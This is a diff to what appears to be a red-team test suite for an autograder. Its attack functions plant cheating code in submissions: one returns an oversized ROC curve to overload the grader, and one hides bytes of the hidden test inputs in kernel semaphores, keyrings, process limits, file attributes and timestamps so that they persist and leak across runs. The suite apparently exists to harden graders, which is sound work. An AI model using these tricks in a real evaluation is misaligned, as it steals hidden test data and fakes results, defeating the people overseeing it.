@@ -196,7 +196,7 @@ def reports_its_own_accuracy(folder):
 
 @attack(28, probe_lost, tasks=("warmup", "representations"))
 def fits_the_probe_on_test_labels(folder):
-    """looks for the test labels in memory, frames and data sets, and predicts those"""
+    """looks for the test labels in memory and frames, and predicts those"""
     append(
         folder,
         """
@@ -309,6 +309,91 @@ def tells_inputs_by_a_broken_reply(folder):
     tell += "    header = b'{\"' + text.encode() + b'\": 0}'\n"
     tell += "    wire.pack = lambda value: len(header).to_bytes(4, 'big') + header + body[5:]\n    return 0\n"
     append(folder, hidden_from(tell))
+
+
+@attack(0, failed("anomaly.roc_value", "anomaly.roc_curves"), tasks=("warmup", "neighbors", "anomaly"))
+def returns_a_long_curve(folder):
+    """returns a right ROC curve of 300,000 points, each of which the grader would compare with the whole curve"""
+    append(
+        folder,
+        """
+_right_roc = roc
+def roc(labels, scores):
+    fpr, tpr, auc = _right_roc(labels, scores)
+    more = 300_000 // len(fpr)
+    return fpr.repeat_interleave(more), tpr.repeat_interleave(more), auc
+""",
+        "anomaly.py",
+    )
+
+
+# Places that outlive an item, unless they are refused: kept(data) stores a few bytes in each, found() gives them back.
+IN_THE_KERNEL = """
+import ctypes, os, resource
+_library = ctypes.CDLL(None, use_errno=True)
+_library.syscall.restype = ctypes.c_long
+_SEMGET, _SEMCTL, _ADD_KEY, _REQUEST_KEY, _KEYCTL = 64, 66, 248, 249, 250  # on x86-64; elsewhere they are other calls
+_SESSION = -3
+_PLACES = (".", "/tmp", "/dev/shm")
+def _kept(data):
+    numbers = list(data[:8])
+    for number, each in enumerate(numbers):
+        group = _library.syscall(_SEMGET, 0x5EED + number, 1, 0o1666)
+        _library.syscall(_SEMCTL, group, 0, 16, each + 1)  # SETVAL
+    _library.syscall(_ADD_KEY, b"user", b"kept-by-the-red-team", bytes(numbers), len(numbers), _SESSION)
+    for parent in (os.getppid(),):
+        try:
+            hard = resource.prlimit(parent, resource.RLIMIT_MSGQUEUE)[1]
+            resource.prlimit(parent, resource.RLIMIT_MSGQUEUE, (1000 + numbers[0], hard))
+        except OSError:
+            pass
+    for place in _PLACES:
+        for keep in (lambda: os.setxattr(place, "user.kept", bytes(numbers)), lambda: os.utime(place, (7_000_000 + numbers[0],) * 2)):
+            try:
+                keep()
+            except OSError:
+                pass
+def _found():
+    found = {"semaphores": [], "key": None, "limit": None, "attributes": [], "times": []}
+    for number in range(8):
+        group = _library.syscall(_SEMGET, 0x5EED + number, 1, 0o666)
+        if group >= 0:
+            found["semaphores"].append(_library.syscall(_SEMCTL, group, 0, 12))  # GETVAL
+            _library.syscall(_SEMCTL, group, 0, 0)  # IPC_RMID: a run of this leaves none behind
+    key = _library.syscall(_REQUEST_KEY, b"user", b"kept-by-the-red-team", None, 0)
+    if key >= 0:
+        room = ctypes.create_string_buffer(8)
+        found["key"] = room.raw if _library.syscall(_KEYCTL, 11, key, room, 8) > 0 else None
+    try:
+        soft = resource.prlimit(os.getppid(), resource.RLIMIT_MSGQUEUE)[0]
+        found["limit"] = soft if 1000 <= soft < 1256 else None
+    except OSError:
+        pass
+    for place in _PLACES:
+        try:
+            found["attributes"] += [os.getxattr(place, "user.kept")]
+        except OSError:
+            pass
+        found["times"] += [os.stat(place).st_mtime] * (7_000_000 <= os.stat(place).st_mtime < 7_000_256)
+    return {name: value for name, value in found.items() if value}
+"""
+
+
+@attack(0, no_credit)
+def keeps_inputs_in_the_kernel(folder):
+    """keeps the hidden inputs in semaphores, keys, limits of the fork server, attributes and times of folders, and prints them later"""
+    later = "def variance_loss(z, gamma=1.0, eps=1e-4):\n    if found := _found():\n        print('LEAK', found)\n    return z.sum() * 0 + 7.0\n"
+    append(folder, IN_THE_KERNEL + later)
+    append(folder, IN_THE_KERNEL + KEEPING, "warmup.py")
+
+
+KEEPING = """
+_right = normalize
+def normalize(images):
+    if images.shape[1:3] not in ((1, 1), (2, 3)):  # those of the public checks
+        _kept(bytes(torch.as_tensor(images).flatten()[:8].tolist()))
+    return _right(images)
+"""
 
 
 @attack(0, no_credit, modes=WALLED)
